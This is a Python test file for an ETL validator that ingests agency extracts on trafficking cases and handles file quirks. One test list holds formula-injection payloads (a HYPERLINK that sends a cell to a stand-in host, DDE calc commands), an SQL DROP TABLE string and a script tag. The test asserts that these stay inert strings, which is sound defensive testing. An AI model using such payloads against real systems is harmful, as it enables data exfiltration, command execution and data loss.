"""Files with the quirks agencies really send are accepted, and the quirks are handled right."""

from __future__ import annotations

import io
import json

import pytest

from etl.defs.intake.contracts import load_contract
from etl.defs.intake.readers import read_extract
from etl.defs.intake.validate import IntakeResult, validate_extract

from .builders import MINMUJER_ROW, MINNA_CASE, MP_ROW, PN_ROW, TODAY, minmujer_csv, minna_json, mp_csv, pn_xlsx


def validate(institution: str, data: bytes, period: str = "2025-04") -> IntakeResult:
    return validate_extract(institution, period, data, "extracto", today=TODAY)


def assert_accepted(result: IntakeResult, records: int) -> None:
    assert result.report.verdict == "accepted", result.report.to_text("en")
    assert len(result.records) == records
    assert result.report.counts.records_accepted == records


@pytest.mark.parametrize(
    ("institution", "data"),
    [
        ("MP", lambda: mp_csv([])),
        ("MP", lambda: mp_csv([], footer=False, trailing_blank_lines=0)),
        ("PN", lambda: pn_xlsx([])),
        ("MINNA", lambda: minna_json([])),
        ("MINMUJER", lambda: minmujer_csv([])),
    ],
)
def test_header_only_file_is_a_valid_zero_report(institution: str, data):
    result = validate(institution, data())
    assert_accepted(result, 0)
    assert result.report.counts.records_read == 0
    assert all(passed for passed, _ in result.gx_findings.values())


def test_utf8_file_where_cp1252_was_expected_is_read_with_a_notice():
    result = validate("MP", mp_csv([MP_ROW], encoding="utf-8"))
    assert_accepted(result, 1)
    assert [f.rule for f in result.report.notices] == ["ENCODING_FALLBACK"]
    assert "UTF-8" in result.report.to_text() and "Windows-1252" in result.report.to_text()
    record = result.records[0]
    assert record.surnames == "QUIÑÓNEZ ARGAÑA" and record.given_names == "ZULMA ITATÍ"  # not mojibake


def test_cp1252_file_with_utf8_bom_and_cp1252_where_utf8_was_expected():
    bom = validate("MP", b"\xef\xbb\xbf" + mp_csv([MP_ROW], encoding="utf-8"))
    assert_accepted(bom, 1)
    assert bom.records[0].surnames == "QUIÑÓNEZ ARGAÑA"
    header = ",".join(load_contract("MINMUJER").column_names) + "\n"
    row = ",".join(str(v) for v in {**MINMUJER_ROW, "departamento_origen": "Ñeembucú"}.values()) + "\n"
    cp1252 = validate("MINMUJER", (header + row).encode("cp1252"))
    assert_accepted(cp1252, 1)
    assert cp1252.records[0].department_code == "12"
    assert [f.rule for f in cp1252.report.notices] == ["ENCODING_FALLBACK"]


def test_duplicate_identical_rows_are_dropped_with_a_warning():
    result = validate("MP", mp_csv([MP_ROW, {**MP_ROW, "NRO_CAUSA": "7/2025"}, MP_ROW]))
    assert_accepted(result, 2)
    dropped = [f for f in result.report.warnings if f.rule == "DUPLICATE_DROPPED"]
    assert [(f.row, f.params["first_row"]) for f in dropped] == [(4, 2)]
    assert "Fila 4: es idéntica a la fila 2 y se descartó." in result.report.to_text()
    assert result.report.counts.duplicates_dropped == 1 and result.report.counts.records_read == 3


def test_excel_date_and_typed_date_of_the_same_complaint_are_identical():
    typed = {**PN_ROW, "Fecha Denuncia": "12/04/2025", "C.I. N°": "5.678.901"}
    result = validate("PN", pn_xlsx([PN_ROW, typed]))
    assert_accepted(result, 1)
    assert [f.rule for f in result.report.warnings] == ["DUPLICATE_DROPPED"]


INERT_NAMES = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"ver")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE victims; --",
    "<script>alert('x')</script>",
]


def test_formulas_and_sql_in_names_stay_inert_strings():
    mp_rows = [{**MP_ROW, "NRO_CAUSA": f"{n}/2025", "VICTIMA_NOMBRES": name} for n, name in enumerate(INERT_NAMES, 1)]
    mp = validate("MP", mp_csv(mp_rows))
    assert_accepted(mp, len(INERT_NAMES))
    assert [r.given_names for r in mp.records] == INERT_NAMES
    pn_rows = [
        {**PN_ROW, "N° Denuncia": f"DT-2025-{n:04d}", "Apellidos y Nombres de la Víctima": f"ROJAS, {name}"}
        for n, name in enumerate(INERT_NAMES, 1)
    ]
    pn = validate("PN", pn_xlsx(pn_rows))
    assert_accepted(pn, len(INERT_NAMES))
    assert [r.given_names for r in pn.records] == INERT_NAMES  # formulas read as text, never evaluated
    assert {r.surnames for r in pn.records} == {"ROJAS"}
    for report in (mp.report, pn.report):
        for name in INERT_NAMES:
            assert name not in report.to_json() and name not in report.to_html("es")


def test_mp_quirks_quoted_line_breaks_footer_blank_lines_and_reordered_columns():
    columns = list(reversed(load_contract("MP").column_names)) + ["OBSERVACION_INTERNA"]
    row = {**MP_ROW, "RELATO": "Primera línea; con punto y coma.\r\nSegunda línea con \"comillas\".", "OBSERVACION_INTERNA": "x"}
    second = {**MP_ROW, "NRO_CAUSA": "8/2025", "VICTIMA_DOC_NRO": "3.999.111", "VICTIMA_NOMBRES": "  ROSA  "}
    data = mp_csv([row, second], columns=columns)
    data = data.replace(b"\r\nABG.", b"\r\n\r\nABG.")  # a blank line before each record
    raw = read_extract(load_contract("MP"), data, "2025-04")
    assert raw.file_rows == [3, 6]  # lines as a text editor shows them (record 1 spans lines 3-4)
    assert raw.source_rows == [1, 2]
    assert "OBSERVACION_INTERNA" not in raw.columns
    result = validate("MP", data)
    assert_accepted(result, 2)
    assert result.records[0].narrative.startswith("Primera línea; con punto y coma.\r\nSegunda")
    assert result.records[1].given_names == "ROSA"
    assert [f.rule for f in result.report.warnings] == ["COLUMN_UNKNOWN"]
    assert "Columna `OBSERVACION_INTERNA`: la columna no está en el contrato y se ignoró" in result.report.to_text()


def test_mp_total_footer_disagreeing_with_the_rows_is_a_warning():
    data = mp_csv([MP_ROW]).replace(b"TOTAL;1", b"TOTAL;3")
    result = validate("MP", data)
    assert_accepted(result, 1)
    assert [f.rule for f in result.report.warnings] == ["TOTAL_MISMATCH"]
    assert "Fila 3: la línea TOTAL indica 3 registros y el archivo contiene 1." in result.report.to_text()


def test_pn_quirks_title_block_blank_rows_numbers_and_columns_order():
    columns = list(reversed(load_contract("PN").column_names))
    rows = [
        {**PN_ROW, "Edad": 16, "C.I. N°": 5678901},
        {**PN_ROW, "N° Denuncia": "DT-2025-0413", "Fecha Denuncia": "13/04/2025", "Edad": "15 años",
         "C.I. N°": " 4.111.222 ", "Departamento": "CAPITAL", "Ciudad": "Asunción", "Medio / Red social utilizada": "FB / Insta"},
    ]
    data = pn_xlsx(rows, title_rows=6, blank_after_header=2, columns=columns, month_title="04/2025")
    raw = read_extract(load_contract("PN"), data, "2025-04")
    assert raw.file_rows == [10, 11]  # 6 title rows, header on 7, two blank rows
    result = validate("PN", data)
    assert_accepted(result, 2)
    first, second = result.records
    assert first.age_years == 16 and first.document_number == "5678901"
    assert second.age_years == 15 and second.document_number == "4111222"
    assert second.registration_date.isoformat() == "2025-04-13"
    assert second.department_code == "00" and second.district_name == "ASUNCION"
    assert second.platform_codes == ["FACEBOOK", "INSTAGRAM"] and second.ict_recruitment is True
    assert first.platform_codes == ["WHATSAPP"] and first.recruitment_method_code == "MESSAGING_APP"


def test_pn_title_announcing_another_month_is_a_warning():
    result = validate("PN", pn_xlsx([PN_ROW], month_title="03/2025"))
    assert_accepted(result, 1)
    assert [f.rule for f in result.report.warnings] == ["TITLE_PERIOD_MISMATCH"]


def test_pn_sheet_with_another_name_is_read_when_it_is_the_only_one():
    result = validate("PN", pn_xlsx([PN_ROW], sheet="Hoja1"))
    assert_accepted(result, 1)
    assert [f.rule for f in result.report.notices] == ["SHEET_SUBSTITUTED"]


def test_pn_excel_serial_number_in_a_date_column():
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(pn_xlsx([PN_ROW])))
    book["Denuncias"]["B6"] = 45759  # 2025-04-12 as a plain number
    out = io.BytesIO()
    book.save(out)
    result = validate("PN", out.getvalue())
    assert_accepted(result, 1)
    assert result.records[0].registration_date.isoformat() == "2025-04-12"


def test_minna_quirks_missing_digital_environment_dotted_documents_unknown_fields():
    old_case = {k: v for k, v in MINNA_CASE.items() if k != "entorno_digital"}
    old_case = {**old_case, "id_caso": "MINNA-2025-00992", "sistema_origen": "v1", "tipo_vulneracion": ["ESNNA"]}
    result = validate("MINNA", minna_json([MINNA_CASE, old_case]))
    assert_accepted(result, 2)
    new, old = result.records
    assert new.document_number == "6123456"
    assert new.ict_recruitment is True and new.ict_exploitation is True
    assert new.platform_codes == ["INSTAGRAM"] and new.recruitment_method_code == "SOCIAL_MEDIA"
    assert new.exploitation_codes == ["SEXTORTION"]  # TRATA adds nothing once a purpose is known
    assert new.department_code == "16" and new.district_name == "MCAL. ESTIGARRIBIA"
    assert old.ict_recruitment is None and old.ict_exploitation is None and old.platform_codes == []
    assert [(f.rule, f.column) for f in result.report.warnings] == [("FIELD_UNKNOWN", "sistema_origen")]


def test_minna_file_where_no_case_has_the_digital_environment():
    old_case = {k: v for k, v in MINNA_CASE.items() if k != "entorno_digital"}
    result = validate("MINNA", minna_json([old_case]))
    assert_accepted(result, 1)


def test_minna_null_document_and_numbers_as_json_numbers():
    case = {**MINNA_CASE, "nna": {**MINNA_CASE["nna"], "documento": None, "fecha_nacimiento": None}, "departamento_codigo": 11, "distrito": "Luque"}
    result = validate("MINNA", minna_json([case]))
    assert_accepted(result, 1)
    record = result.records[0]
    assert record.document_number is None and record.age_years is None
    assert record.department_code == "11" and record.district_name == "LUQUE"


def test_minmujer_quirks_bom_whitespace_codes_and_countries():
    rows = [
        {**MINMUJER_ROW, "codigo_atencion": " DGT-2025-0101 ", "medio_captacion": "2", "pais_explotacion": "ESPAÑA"},
        {**MINMUJER_ROW, "codigo_atencion": "DGT-2025-0102", "documento": "AB123456", "nacionalidad": "Paraguay",
         "departamento_origen": "alto parana", "explotacion_en_linea": "NS", "plataforma": "", "medio_captacion": "99"},
    ]
    result = validate("MINMUJER", minmujer_csv(rows, bom=True))
    assert_accepted(result, 2)
    first, second = result.records
    assert first.source_key == "DGT-2025-0101" and first.recruitment_method_code == "MESSAGING_APP"
    assert first.exploitation_country_code == "ESP" and first.nationality_code == "BRA"
    assert first.document_type == "CI" and second.document_type == "FOREIGN_ID"
    assert second.nationality_code == "PRY" and second.department_code == "10"
    assert second.ict_exploitation is None and second.recruitment_method_code == "UNKNOWN" and second.ict_recruitment is None
    assert not result.report.notices  # a UTF-8 BOM in a UTF-8 contract is no news


def test_unmatched_typed_values_become_other_with_a_warning():
    rows = [{**MINMUJER_ROW, "nacionalidad": "marciana", "pais_explotacion": "Atlántida", "plataforma": "Kwai"}]
    result = validate("MINMUJER", minmujer_csv(rows))
    assert_accepted(result, 1)
    record = result.records[0]
    assert record.nationality_code == "OTH" and record.exploitation_country_code == "OTH"
    assert record.platform_codes == ["OTHER"]
    warnings = {(f.rule, f.column, f.row) for f in result.report.warnings}
    assert warnings == {("VALUE_UNMATCHED", c, 2) for c in ("nacionalidad", "pais_explotacion", "plataforma")}
    text = result.report.to_text()
    assert "marciana" not in text and "Atlántida" not in text and "Kwai" not in text
    assert "Fila 2, columna `nacionalidad`: nacionalidad no reconocida" in text


def test_unknown_markers_map_to_unknown_codes_explicitly():
    row = {**MP_ROW, "MEDIO_CAPTACION": "NO CONSTA", "VICTIMA_NACIONALIDAD": "NO CONSTA", "PAIS_DESTINO": "",
           "VICTIMA_SEXO": "", "HECHO_PUNIBLE": "NO CONSTA", "ETAPA_PROCESAL": "", "DEPARTAMENTO_HECHO": "NO CONSTA",
           "DISTRITO_HECHO": ""}
    result = validate("MP", mp_csv([row]))
    assert_accepted(result, 1)
    record = result.records[0]
    assert record.recruitment_method_code == "UNKNOWN" and record.ict_recruitment is None
    assert record.nationality_code == "UNK" and record.exploitation_country_code == "UNK"
    assert record.sex_code == "U" and record.exploitation_codes == ["UNKNOWN"]
    assert record.justice_stage_code == "UNKNOWN" and record.department_code is None and record.district_name is None
    assert not result.report.warnings


def test_district_warnings_name_the_column_only():
    rows = [
        {**MP_ROW, "DISTRITO_HECHO": "VILLA IMAGINARIA"},
        {**MP_ROW, "NRO_CAUSA": "2/2025", "VICTIMA_DOC_NRO": "1.234.567", "DISTRITO_HECHO": "ENCARNACION"},
        {**MP_ROW, "NRO_CAUSA": "3/2025", "VICTIMA_DOC_NRO": "1.234.568", "DISTRITO_HECHO": "MCAL. ESTIGARRIBIA", "DEPARTAMENTO_HECHO": "BOQUERON"},
    ]
    result = validate("MP", mp_csv(rows))
    assert_accepted(result, 3)
    assert [(f.rule, f.row) for f in result.report.warnings] == [("DISTRICT_UNMATCHED", 2), ("DISTRICT_OTHER_DEPARTMENT", 3)]
    assert result.records[2].district_name == "MCAL. ESTIGARRIBIA" and result.records[2].department_code == "16"


def test_pn_name_without_comma_is_kept_with_a_warning():
    result = validate("PN", pn_xlsx([{**PN_ROW, "Apellidos y Nombres de la Víctima": "MIRNA YEGROS"}]))
    assert_accepted(result, 1)
    assert result.records[0].surnames == "MIRNA YEGROS" and result.records[0].given_names is None
    assert [f.rule for f in result.report.warnings] == ["NAME_NOT_SPLIT"]


def test_minna_json_serialised_without_indentation_or_with_bom():
    compact = json.dumps(json.loads(minna_json([MINNA_CASE])), ensure_ascii=True, separators=(",", ":")).encode()
    assert_accepted(validate("MINNA", compact), 1)
    assert_accepted(validate("MINNA", b"\xef\xbb\xbf" + minna_json([MINNA_CASE])), 1)
